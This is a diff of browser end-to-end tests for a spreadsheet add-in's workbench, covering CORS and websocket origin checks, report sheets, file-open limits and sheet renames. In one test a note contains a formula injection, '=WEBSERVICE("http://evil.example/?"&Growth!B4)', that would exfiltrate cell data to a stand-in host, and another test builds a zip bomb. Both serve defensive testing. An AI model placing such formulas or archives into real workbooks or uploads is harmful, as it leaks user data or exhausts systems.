@@ -5,10 +5,12 @@
  */
 import { ChildProcess, spawn, spawnSync } from "child_process";
 import fs from "fs";
+import https from "https";
 import path from "path";
 import ExcelJS from "exceljs";
 import type { Browser, Page } from "playwright-core";
 import { describeInBrowser, launchChromium, OUTPUT } from "../support/browser";
+import { makeZip } from "../support/zip";
 
 jest.setTimeout(240_000);
 
@@ -47,6 +49,32 @@ async function openWorkbench(): Promise<{ page: Page; outside: string[]; errors:
   return { page, outside, errors };
 }
 
+/** A GET to the dev server with the given headers: its status and response headers. */
+function request(pathname: string, headers: Record<string, string>): Promise<{ status: number; headers: Record<string, unknown> }> {
+  return new Promise((resolve, reject) => {
+    const req = https.get(`${origin}${pathname}`, { rejectUnauthorized: false, headers }, (response) => {
+      response.resume();
+      resolve({ status: response.statusCode ?? 0, headers: response.headers });
+    });
+    // A websocket handshake the server accepts switches protocols instead of answering.
+    req.on("upgrade", (response, socket) => {
+      socket.destroy();
+      resolve({ status: response.statusCode ?? 0, headers: response.headers });
+    });
+    req.on("error", reject);
+  });
+}
+
+function websocketFrom(from: string) {
+  return request("ws", {
+    Origin: from,
+    Connection: "Upgrade",
+    Upgrade: "websocket",
+    "Sec-WebSocket-Version": "13",
+    "Sec-WebSocket-Key": Buffer.from("spillsplit-tests").toString("base64"),
+  });
+}
+
 const cell = (page: Page, a1: string) => page.textContent(`td[data-cell="${a1}"]`);
 
 describeInBrowser("npm start on Linux", () => {
@@ -71,6 +99,23 @@ describeInBrowser("npm start on Linux", () => {
   it("says there is no Excel here and where the workbench is", () => {
     expect(output).toContain("There is no Excel to sideload into on linux");
     expect(output).toContain(`Spillsplit workbench:  ${origin}workbench.html`);
+  });
+
+  it("shares its files only with its own origin and Office on the web, and its websocket only with its own pages", async () => {
+    const own = origin.replace(/\/$/, "");
+    const evil = await request("functions.json", { Origin: "https://evil.example" });
+    expect(evil.status).toBe(200);
+    expect(evil.headers["access-control-allow-origin"]).toBeUndefined();
+    const plain = await request("functions.json", {});
+    expect(plain.headers["access-control-allow-origin"]).toBeUndefined();
+    expect((await request("functions.json", { Origin: own })).headers["access-control-allow-origin"]).toBe(own);
+    const office = "https://excel.officeapps.live.com";
+    expect((await request("functions.json", { Origin: office })).headers["access-control-allow-origin"]).toBe(office);
+    // Live reload: its own page may connect; another site, or another port on this machine, may not.
+    expect((await websocketFrom(own)).status).toBe(101);
+    expect((await websocketFrom("https://evil.example")).status).not.toBe(101);
+    expect((await websocketFrom(`https://localhost:${PORT + 1}`)).status).not.toBe(101);
+    expect((await websocketFrom("null")).status).not.toBe(101);
   });
 
   it("serves the workbench on the planner template, with the task pane beside it", async () => {
@@ -191,10 +236,10 @@ describeInBrowser("npm start on Linux", () => {
     expect(await status(4)).toBe("watch");
     expect(await page.locator("img[src=x]").count()).toBe(0);
 
-    // Write the report: a Minefields sheet, one row per minefield.
+    // Write the report: this scenario's own Minefields sheet, one row per minefield.
     await page.click("#write-report");
     await page.waitForSelector("#notice");
-    expect(await page.textContent("#notice")).toContain("Minefields");
+    expect(await page.textContent("#notice")).toContain("Minefields - Growth");
     await page.click('[role="tab"]:has-text("Minefields")');
     await page.waitForSelector("#report-sheet");
     expect(await page.locator('[data-binding="thisMonth"]').count()).toBe(0);
@@ -227,7 +272,7 @@ describeInBrowser("npm start on Linux", () => {
     await page.click("#write-report");
     await page.waitForFunction(() => document.querySelector("#notice") !== null);
     const tabs = await page.locator('[role="tab"]').allTextContents();
-    expect(tabs.filter((t) => t === "Minefields")).toHaveLength(1);
+    expect(tabs.filter((t) => t.startsWith("Minefields"))).toEqual(["Minefields - Growth"]);
 
     // Insert a scenario sheet from the template: the pane follows it.
     await page.click("#insert-scenario");
@@ -235,6 +280,247 @@ describeInBrowser("npm start on Linux", () => {
     expect(await cell(page, "C10")).toBe("150,000.00");
     expect(errors).toEqual([]);
     expect(outside).toEqual([]);
+    await page.context().close();
+  });
+
+  /** Writes a workbook made with ExcelJS into test-output and opens it through the file picker. */
+  async function openFile(page: Page, name: string, build: (workbook: ExcelJS.Workbook) => void): Promise<void> {
+    const workbook = new ExcelJS.Workbook();
+    build(workbook);
+    const file = path.join(OUTPUT, name);
+    await workbook.xlsx.writeFile(file);
+    await page.setInputFiles("#open", file);
+  }
+
+  const status = (page: Page, id: number) => page.getAttribute(`[data-minefield="${id}"] [data-status]`, "data-status");
+
+  it("issue 14 items 7 and 9: notes are written as text, and each scenario has its own report", async () => {
+    const { page, errors } = await openWorkbench();
+    await page.waitForSelector('[data-minefield="2"] [data-status]');
+    await page.click('[role="tab"]:has-text("Growth")');
+    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Growth");
+    const hostile = '=WEBSERVICE("http://evil.example/?"&Growth!B4)';
+    await page.fill('[data-minefield="1"] textarea', "=1+1");
+    await page.fill('[data-minefield="4"] textarea', hostile);
+    await page.fill('[data-minefield="5"] textarea', "-5% CPM, 10%");
+    await page.click("#write-report");
+    await page.waitForFunction(() => document.querySelector("#notice")?.textContent?.includes("Minefields - Growth"));
+    await page.click('[role="tab"]:has-text("Minefields - Growth")');
+    await page.waitForSelector("#report-sheet");
+    expect(await cell(page, "D2")).toBe("=1+1");
+    expect(await cell(page, "D5")).toBe(hostile);
+    expect(await cell(page, "D6")).toBe("-5% CPM, 10%");
+    expect(await page.locator('td[data-cell="D2"].formula').count()).toBe(0);
+    // Another scenario's report is its own sheet; Growth's stays as it was.
+    await page.click('[role="tab"]:has-text("Mature")');
+    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Mature");
+    await page.waitForSelector('[data-minefield="1"] textarea');
+    await page.fill('[data-minefield="1"] textarea', "mature plan");
+    await page.click("#write-report");
+    await page.waitForFunction(() => document.querySelector("#notice")?.textContent?.includes("Minefields - Mature"));
+    const tabs = await page.locator('[role="tab"]').allTextContents();
+    expect(tabs.filter((t) => t.startsWith("Minefields"))).toEqual(["Minefields - Growth", "Minefields - Mature"]);
+    await page.click('[role="tab"]:has-text("Minefields - Growth")');
+    expect(await cell(page, "D2")).toBe("=1+1");
+    // A report sheet the user has taken over (its header replaced) is theirs now: the next report
+    // goes to a new sheet and leaves it as the user made it.
+    await page.click('[role="tab"]:has-text("Minefields - Mature")');
+    await page.click('td[data-cell="A1"]');
+    await page.keyboard.type("my own table");
+    await page.keyboard.press("Enter");
+    await page.click('[role="tab"]:text-is("Mature")');
+    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Mature");
+    await page.click("#write-report");
+    await page.waitForFunction(() => document.querySelector("#notice")?.textContent?.includes("Minefields - Mature (2)"));
+    await page.click('[role="tab"]:text-is("Minefields - Mature")');
+    expect(await cell(page, "A1")).toBe("my own table");
+    expect(errors).toEqual([]);
+    await page.context().close();
+  });
+
+  it("issue 14 item 9: a user's own sheet called Minefields is never written into", async () => {
+    const { page } = await openWorkbench();
+    await openFile(page, "has-minefields.xlsx", (workbook) => {
+      workbook.addWorksheet("MINEFIELDS").getCell("A1").value = "my own checklist";
+      const plan = workbook.addWorksheet("Plan");
+      plan.getCell("A1").value = "budget";
+      plan.getCell("B1").value = 300000;
+    });
+    await page.waitForFunction(() => document.querySelector("#file-name")?.textContent === "has-minefields.xlsx");
+    await page.click('[role="tab"]:has-text("Plan")');
+    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Plan");
+    await page.click("#write-report");
+    await page.waitForFunction(() => document.querySelector("#notice")?.textContent?.includes("Minefields - Plan"));
+    await page.click('[role="tab"]:has-text("MINEFIELDS")');
+    expect(await cell(page, "A1")).toBe("my own checklist");
+    expect(await cell(page, "A2")).toBe("");
+    // The user's sheet is a sheet like any other: the checklist shows there, not the report notice.
+    expect(await page.locator("#report-sheet").count()).toBe(0);
+    await page.context().close();
+  });
+
+  it("issue 14 item 8: Insert scenario never replaces a user's sheet whose name differs only in case", async () => {
+    const { page, errors } = await openWorkbench();
+    await openFile(page, "case.xlsx", (workbook) => {
+      const assumptions = workbook.addWorksheet("assumptions");
+      assumptions.getCell("A1").value = "my own assumptions";
+      assumptions.getCell("B1").value = 42;
+      workbook.addWorksheet("scenario 1").getCell("A1").value = "my own scenario";
+    });
+    await page.waitForFunction(() => document.querySelector("#file-name")?.textContent === "case.xlsx");
+    await page.waitForSelector("#insert-scenario");
+    await page.click("#insert-scenario");
+    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Scenario 2");
+    const tabs = await page.locator('[role="tab"]').allTextContents();
+    expect(tabs).toEqual(["assumptions", "scenario 1", "Assumptions (2)", "Scenario 2"]);
+    // The new scenario reads its own assumptions and computes: growth, half of 300,000.
+    expect(await cell(page, "C10")).toBe("150,000.00");
+    await page.click('td[data-cell="C10"]');
+    expect(await page.inputValue("#formula")).toContain("'Assumptions (2)'!$A$1:$B$8");
+    await page.click('[role="tab"]:has-text("assumptions")');
+    expect(await cell(page, "A1")).toBe("my own assumptions");
+    expect(await cell(page, "B1")).toBe("42");
+    await page.click('[role="tab"]:has-text("scenario 1")');
+    expect(await cell(page, "A1")).toBe("my own scenario");
+    expect(errors).toEqual([]);
+    await page.context().close();
+  });
+
+  it("issue 14 item 10: says the note limit where the user types, keeps the note whole, and saves a note typed just before the pane closes", async () => {
+    const { page } = await openWorkbench();
+    await page.waitForSelector('[data-minefield="6"] textarea');
+    const hint = page.locator('[data-note-length="6"]');
+    expect(await hint.textContent()).toBe("0 of 5,000 characters");
+    // Pasting 100,000 characters keeps the first 5,000, and says so.
+    await page.fill('[data-minefield="6"] textarea', "长".repeat(100_000));
+    expect((await page.inputValue('[data-minefield="6"] textarea')).length).toBe(5000);
+    expect(await hint.textContent()).toBe("5,000 of 5,000 characters: a note keeps at most 5,000.");
+    await page.fill('[data-minefield="7"] textarea', "typed just before closing");
+    // At once, well inside the 300 ms the pane waits before saving: the unmount saves it.
+    await page.click("#reload-pane");
+    await page.waitForSelector('[data-minefield="7"] textarea');
+    await page.waitForFunction(() => (document.querySelector('[data-minefield="7"] textarea') as HTMLTextAreaElement)?.value !== "");
+    expect(await page.inputValue('[data-minefield="7"] textarea')).toBe("typed just before closing");
+    expect(await page.inputValue('[data-minefield="6"] textarea')).toBe("长".repeat(5000));
+    await page.locator('[data-minefield="6"]').screenshot({ path: path.join(OUTPUT, "checklist-note-limit-en.png") });
+    await page.context().close();
+  });
+
+  it("issue 14 items 12 and 14: a file that cannot be opened leaves the open workbook working, and says why", async () => {
+    const { page, errors } = await openWorkbench();
+    const message = () => page.textContent("#message");
+    const refused = async (file: string, contains: string) => {
+      await page.setInputFiles("#open", file);
+      await page.waitForFunction((name) => document.querySelector("#message")?.textContent?.startsWith(`Could not open ${name}`), path.basename(file));
+      expect(await message()).toContain(contains);
+      expect(await message()).toContain("The workbook you had open is unchanged.");
+      expect(await page.textContent("#file-name")).toBe("spillsplit-planner.xlsx");
+    };
+    const notXlsx = path.join(OUTPUT, "not-a-workbook.xlsx");
+    fs.writeFileSync(notXlsx, "this is text, not a zip");
+    await refused(notXlsx, "is not an .xlsx workbook");
+    const noSheets = path.join(OUTPUT, "no-sheets.xlsx");
+    fs.writeFileSync(noSheets, makeZip([{ name: "[Content_Types].xml", data: Buffer.from('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>') }]));
+    await refused(noSheets, "Could not open no-sheets.xlsx");
+    // A 1 MB-odd file that would unpack to over 50 MB is refused from its directory, at once.
+    const bomb = path.join(OUTPUT, "bomb.xlsx");
+    fs.writeFileSync(bomb, makeZip([{ name: "xl/sharedStrings.xml", data: Buffer.alloc(60 * 1024 * 1024, 0x61) }]));
+    const started = Date.now();
+    await refused(bomb, "up to 50 MB unpacked");
+    expect(Date.now() - started).toBeLessThan(5000);
+    // A file larger than the limit on disk is refused before it is read at all.
+    const huge = path.join(OUTPUT, "huge.xlsx");
+    fs.writeFileSync(huge, Buffer.alloc(51 * 1024 * 1024));
+    await refused(huge, "up to 50 MB unpacked");
+    fs.rmSync(huge);
+    await openFile(page, "too-many-rows.xlsx", (workbook) => {
+      const sheet = workbook.addWorksheet("Big");
+      for (let r = 1; r <= 40_001; r++) sheet.getCell(r, 1).value = r;
+    });
+    await page.waitForFunction(() => document.querySelector("#message")?.textContent?.startsWith("Could not open too-many-rows.xlsx"));
+    expect(await message()).toContain("“Big” has 40,001 rows");
+    expect(await message()).toContain("up to 40,000 rows");
+    // The workbook that was open still computes, and still downloads.
+    await page.click('[role="tab"]:has-text("Growth")');
+    await page.click('td[data-cell="B10"]');
+    await page.keyboard.type("500000");
+    await page.keyboard.press("Enter");
+    expect(await cell(page, "C10")).toBe("250,000.00");
+    const [download] = await Promise.all([page.waitForEvent("download"), page.click("#download")]);
+    expect(await download.failure()).toBeNull();
+    await page.screenshot({ path: path.join(OUTPUT, "workbench-open-refused.png") });
+    expect(errors).toEqual([]);
+    await page.context().close();
+  });
+
+  it("issue 14 item 15: answers belong to the workbook opened, not to its file name", async () => {
+    const { page } = await openWorkbench();
+    await page.waitForSelector('[data-minefield="5"] input[value="clear"]');
+    await page.check('[data-minefield="5"] input[value="clear"]');
+    await page.fill('[data-minefield="5"] textarea', "answered in the template");
+    await page.waitForTimeout(600);
+    // Another file that happens to have the same name.
+    await openFile(page, "spillsplit-planner.xlsx", (workbook) => {
+      workbook.addWorksheet("Growth").getCell("A1").value = "someone else's plan";
+    });
+    await page.waitForFunction(() => document.querySelector("#message")?.textContent === "Opened spillsplit-planner.xlsx.");
+    await page.waitForSelector('[data-minefield="5"] textarea');
+    expect(await page.inputValue('[data-minefield="5"] textarea')).toBe("");
+    expect(await status(page, 5)).toBe("unanswered");
+    await page.context().close();
+  });
+
+  it("issue 14 item 11: renaming a sheet keeps its answers, its report and the bindings on it", async () => {
+    const { page, errors } = await openWorkbench();
+    const rename = async (tab: string, to: string) => {
+      page.once("dialog", (dialog) => void dialog.accept(to));
+      await page.dblclick(`[role="tab"]:text-is("${tab}")`);
+    };
+    await page.waitForSelector('[data-minefield="5"] input[value="clear"]');
+    await page.check('[data-minefield="5"] input[value="clear"]');
+    await page.fill('[data-minefield="5"] textarea', "kept through the rename");
+    await page.click("#write-report");
+    await page.waitForFunction(() => document.querySelector("#notice")?.textContent?.includes("Minefields - Growth"));
+    // The scenario sheet renamed: the pane follows it, answers and all.
+    await rename("Growth", "Plan A");
+    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Plan A");
+    expect(await page.inputValue('[data-minefield="5"] textarea')).toBe("kept through the rename");
+    expect(await status(page, 5)).toBe("clear");
+    // Its report renamed too: the next report rewrites that sheet, and adds none.
+    await rename("Minefields - Growth", "Checked");
+    await page.click('[role="tab"]:text-is("Plan A")');
+    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Plan A");
+    await page.fill('[data-minefield="5"] textarea', "second report");
+    await page.click("#write-report");
+    await page.waitForFunction(() => document.querySelector("#notice")?.textContent?.includes("Checked"));
+    const tabs = await page.locator('[role="tab"]').allTextContents();
+    expect(tabs).toEqual(["Summary", "Assumptions", "Cold start", "Plan A", "Mature", "Notes", "Checked"]);
+    await page.click('[role="tab"]:text-is("Checked")');
+    await page.waitForSelector("#report-sheet");
+    expect(await cell(page, "D6")).toBe("second report");
+    // A name another sheet has, in any case, is refused.
+    await rename("Checked", "summary");
+    await page.waitForFunction(() => document.querySelector("#message")?.textContent?.includes("cannot be a sheet name"));
+    // Bindings follow their sheet's rename.
+    await page.click('[role="tab"]:text-is("Summary")');
+    await page.waitForSelector('[data-binding="thisMonth"]');
+    await page.click('td[data-cell="G5"]');
+    await page.click('button[aria-label="Use selected: This month\'s budget"]');
+    await page.click('td[data-cell="C4"]');
+    await page.click('button[aria-label="Use selected: Next month\'s proposed budget"]');
+    await page.waitForSelector('[data-check="budget"]');
+    await rename("Summary", "Overview");
+    await page.waitForFunction(() => document.querySelector('[data-binding="thisMonth"]')?.textContent === "Overview!G5");
+    expect(await page.textContent('[data-binding="proposed"]')).toBe("Overview!C4");
+    expect(await page.locator("#bindings-missing").count()).toBe(0);
+    expect(await page.locator('[data-check="budget"]').count()).toBe(1);
+    // And all of it is still there after the pane reloads.
+    await page.waitForTimeout(600);
+    await page.click("#reload-pane");
+    await page.waitForFunction(() => document.querySelector('[data-binding="thisMonth"]')?.textContent === "Overview!G5");
+    await page.click('[role="tab"]:text-is("Plan A")');
+    await page.waitForFunction(() => (document.querySelector('[data-minefield="5"] textarea') as HTMLTextAreaElement | null)?.value === "second report");
+    expect(errors).toEqual([]);
     await page.context().close();
   });
 
